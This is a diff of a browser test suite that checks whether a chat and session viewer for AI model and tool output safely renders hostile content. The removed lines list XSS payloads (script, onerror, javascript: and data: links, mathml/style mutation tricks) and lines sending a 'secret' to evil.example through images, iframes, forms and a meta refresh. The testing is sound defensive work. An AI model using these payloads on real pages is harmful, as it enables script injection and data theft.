@@ -1,55 +1,84 @@
+import type { Page } from 'playwright-core'
 import { describe, expect, test } from 'vitest'
-import { ended, say, setUpProduct } from './product.ts'
+import { hostileLog, PAYLOADS } from './payloads.ts'
+import { ended, eventually, say, setUpProduct } from './product.ts'
+import { writeSessions } from './written-session.ts'
 
-const { open, product } = setUpProduct()
+const { open, product } = setUpProduct({ prepare: data => writeSessions(data, { hostile: hostileLog() }) })
 
-/** Attempts to run code, to load something from elsewhere, or to leave the page. */
-const PAYLOADS = [
-  '<script>window.pwned=1</script>',
-  '<img src=x onerror="window.pwned=1">',
-  '<svg onload="window.pwned=1"><circle/></svg>',
-  '[click](javascript:window.pwned=1)',
-  '[click](data:text/html,<script>window.pwned=1</script>)',
-  '![x](https://evil.example/p.png?q=secret)',
-  '![x](javascript:window.pwned=1)',
-  '<iframe src="https://evil.example"></iframe>',
-  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
-  '<form action="https://evil.example"><button>go</button></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '`${window.pwned=1}` <details open ontoggle="window.pwned=1">x</details>',
-]
+/** Fails when something has run, was loaded from elsewhere, or stands in the page as markup. */
+async function expectHarmless(page: Page, hosts: readonly string[]): Promise<void> {
+  const found = await page.evaluate(() => {
+    const markup =
+      'script, iframe, object, embed, form:not(.schema-form), style, meta, link, base, video, template, math'
+    const links = [...document.querySelectorAll<HTMLAnchorElement>('.thread a')]
+    const images = [...document.querySelectorAll<HTMLImageElement>('.thread img')]
+    return [
+      ...('pwned' in window ? ['code has run'] : []),
+      ...[...document.querySelectorAll(`#app :is(${markup}), .thread [style*="url("]`)].map(
+        element => element.outerHTML,
+      ),
+      ...links.filter(link => !/^(https?|mailto):$/.test(link.protocol)).map(link => link.href),
+      ...links.filter(link => !link.rel.includes('noopener')).map(link => `opener: ${link.href}`),
+      // A row that is only measured yet is not shown, and has no text.
+      ...links
+        .filter(link => link.checkVisibility({ visibilityProperty: true }))
+        .filter(link => !link.innerText.includes(link.host))
+        .map(link => `no host: ${link.href}`),
+      ...images
+        .filter(image => !/^data:image\/(png|jpeg|gif|webp|avif);/.test(image.src))
+        .map(image => image.src),
+    ]
+  })
+  expect(found).toEqual([])
+  expect(new Set(hosts)).toEqual(new Set([new URL(product().url).host]))
+  expect(new URL(page.url()).host).toBe(new URL(product().url).host)
+}
 
 describe('what models and tools write', () => {
-  test('never runs, loads or leaves', async () => {
+  test('never runs, loads or leaves, in any card and in any part of a long session', async () => {
+    const { page, problems } = await open('/sessions/hostile')
+    const hosts: string[] = []
+    page.on('request', request => hosts.push(new URL(request.url()).host))
+    await page.locator('[data-tw-part="tool-call"]').first().waitFor()
+    await page.reload()
+    await page.locator('[data-tw-part="tool-call"]').first().waitFor()
+    await page.locator('.expand-all').click()
+    const thread = page.locator('.thread')
+    await thread.evaluate(box => box.scrollTo(0, 0))
+    // From the first row to the last one: each exists at some time.
+    const seen = new Set<string>()
+    for (let more = true; more; ) {
+      for (const id of await thread.evaluate(callsIn)) seen.add(id)
+      await expectHarmless(page, hosts)
+      more = await thread.evaluate(box => {
+        box.scrollBy(0, box.clientHeight)
+        return box.scrollHeight - box.scrollTop - box.clientHeight > 2
+      })
+    }
+    for (const id of await thread.evaluate(callsIn)) seen.add(id)
+    await expectHarmless(page, hosts)
+    expect(seen.size).toBe(PAYLOADS.length * 10)
+    expect(problems).toEqual([])
+    await page.context().close()
+  })
+
+  test('never runs or loads while it streams, nor in the trace, nor in the names of sessions', async () => {
     const { page, problems } = await open()
-    const requests: string[] = []
-    page.on('request', request => requests.push(new URL(request.url()).host))
-    await say(page, '/think')
-    await ended(page)
-    let n = 1
-    for (const payload of PAYLOADS) {
+    const hosts: string[] = []
+    page.on('request', request => hosts.push(new URL(request.url()).host))
+    let n = 0
+    for (const payload of PAYLOADS.filter((_, index) => index % 3 === 0)) {
       await say(page, payload)
       await ended(page, ++n)
     }
-    await say(page, `run \`printf '%s' '<img src=x onerror=window.pwned=1>' '\\033[31mred'\``)
-    await page
-      .locator('[data-tw-part="allow-once"]')
-      .or(page.locator('[data-row="end"] >> [data-tw-part="turn-footer"]').nth(n))
-      .first()
-      .waitFor()
-    if (await page.locator('[data-tw-part="allow-once"]').count())
-      await page.locator('[data-tw-part="allow-once"]').click()
-    await ended(page, ++n)
-    await page.locator('[data-tool="Bash"] [data-tw-part="tool-header"]').last().click()
-    for (const link of await page.locator('.thread [data-tw-part="link"]').all())
-      expect(new URL((await link.getAttribute('href')) ?? '').protocol).toMatch(/^https?:$/)
+    await page.keyboard.press('Control+.')
+    await page.locator('.trace [role="tab"]').nth(1).click()
+    await page.locator('.event button').first().click()
+    await expectHarmless(page, hosts)
+    await page.goto(`${product().url}/sessions`)
+    await page.locator('.session-table tbody tr').first().waitFor()
     expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
-    expect(await page.locator('.thread :is(script, iframe, form, style, meta)').count()).toBe(0)
-    expect(await page.locator('.thread img').count()).toBe(0)
-    expect(new Set(requests)).toEqual(new Set([new URL(product().url).host]))
-    expect(new URL(page.url()).host).toBe(new URL(product().url).host)
     expect(problems).toEqual([])
     await page.context().close()
   })
@@ -72,11 +101,22 @@ describe('what models and tools write', () => {
 
   test('a link names its host, and an image from elsewhere waits for consent', async () => {
     const { page } = await open()
+    const hosts: string[] = []
+    page.on('request', request => hosts.push(new URL(request.url()).host))
     await say(page, 'see [the docs](https://docs.example/a) and ![chart](https://pics.example/c.png)')
     await ended(page)
     const answer = page.locator('[data-role="assistant"]')
     expect(await answer.locator('[data-tw-part="link-host"]').first().innerText()).toBe('docs.example')
-    expect(await answer.locator('[data-tw-part="image-gate"]').first().innerText()).toContain('pics.example')
+    const gate = answer.locator('[data-tw-part="image-gate"]').first()
+    expect(await gate.innerText()).toContain('pics.example')
+    expect(hosts).not.toContain('pics.example')
+    // The policy of the page keeps other hosts out even then: what is left is a link that says where it goes.
+    await gate.click()
+    await eventually(() => answer.locator('a[href="https://pics.example/c.png"]').count()).toBe(1)
     await page.context().close()
   })
 })
+
+/** The calls whose cards exist. */
+const callsIn = (box: Element): readonly string[] =>
+  [...box.querySelectorAll<HTMLElement>('[data-call-id]')].map(each => each.dataset['callId'] ?? '')
